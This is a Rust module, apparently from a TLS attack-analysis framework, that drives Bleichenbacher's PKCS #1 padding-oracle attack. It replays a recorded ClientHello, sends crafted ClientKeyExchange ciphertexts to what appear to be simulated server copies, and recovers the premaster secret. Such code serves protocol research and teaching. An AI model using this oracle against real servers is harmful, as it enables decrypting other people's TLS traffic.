//! Bleichenbacher's attack on RSA key transport ("Chosen ciphertext attacks against protocols based on the RSA encryption
//! standard PKCS #1", 1998; RFC 5246 section 7.4.7.1). The steps are the job's of `padlock-core`; here is the oracle.
//!
//! She opens a connection with the ClientHello that she has recorded, and sends a ClientKeyExchange with a ciphertext of
//! hers. If an alert comes at once, the padding was wrong. If nothing comes, the server waits for ChangeCipherSpec: the
//! padding was right, or the server does not tell.
//!
//! Every call is a connection of its own. All are answered by a copy of one server that has heard the ClientHello: they
//! would differ in the server's random, on which nothing depends here.

use padlock_core::{Nat, Working, crack::BleichenbacherJob, num::mod_pow, rsa::RsaPublicKey};
use padlock_tls::{
    endpoint::Endpoint,
    handshake::HandshakeType,
    ledger::{Slot, Value, ValueKind},
    party::Whose,
    suite::RsaPadding,
};

use super::{Outcome, gain, recording::Recording, target::Target};

/// The length of a premaster secret (RFC 5246 section 7.4.7.1).
const PRE_MASTER_SECRET: usize = 48;

#[derive(Clone, Debug)]
pub(super) struct Bleichenbacher {
    key: RsaPublicKey,
    job: BleichenbacherJob,
    server: Endpoint,
    /// The recorded ClientKeyExchange, up to the ciphertext.
    begins: Vec<u8>,
    ciphertext: Value,
}

impl Bleichenbacher {
    /// `None` where there is no padding that anyone could be told about, as in toy size.
    pub fn new(recording: &Recording, target: &mut Target) -> Option<Self> {
        let padding = recording.session()?.suite.scale.padding;
        if padding != RsaPadding::Pkcs1 {
            return None;
        }
        let number = |kind| {
            let value = recording.value(kind, Whose::Server)?;
            Some(Nat::from_be_bytes(&value.bytes))
        };
        let key = RsaPublicKey {
            n: number(ValueKind::RsaModulus)?,
            e: number(ValueKind::RsaPublicExponent)?,
        };
        let ciphertext = recording.value(ValueKind::EncryptedPreMasterSecret, Whose::Client)?;
        let message = recording.handshake(HandshakeType::ClientKeyExchange)?;
        let begins = message.strip_suffix(ciphertext.bytes.as_slice())?.to_vec();
        let hello = recording.handshake(HandshakeType::ClientHello)?;
        Some(Self {
            job: BleichenbacherJob::new(&key, &ciphertext.bytes, &target.rng()).ok()?,
            key,
            server: target.answering(hello),
            begins,
            ciphertext,
        })
    }

    pub fn step(&mut self, target: &mut Target) -> Option<Outcome> {
        let Some(query) = self.job.query().ok()? else {
            return self.found();
        };
        let record = [self.begins.as_slice(), &query].concat();
        let answer = target.ask(&mut self.server.clone(), record);
        self.job.answer(answer.records.is_empty()).ok()?;
        Some(Outcome::Going)
    }

    /// The premaster secret, if the message becomes the ciphertext again: answers that mean nothing lead to some number too.
    fn found(&self) -> Option<Outcome> {
        let message = self.job.message().ok()??;
        let RsaPublicKey { n, e } = &self.key;
        let m = Nat::from_be_bytes(&message);
        let again = mod_pow(&m, e, n, &mut Working::off()).ok()?;
        if again != Nat::from_be_bytes(&self.ciphertext.bytes) {
            return None;
        }
        let at = message.len().checked_sub(PRE_MASTER_SECRET)?;
        let secret = message.get(at..)?.to_vec();
        let slot = Slot::new(ValueKind::PreMasterSecret, Whose::Client);
        let gain = gain(slot.holding(secret), vec![self.ciphertext.clone()]);
        Some(Outcome::values(vec![gain]))
    }
}
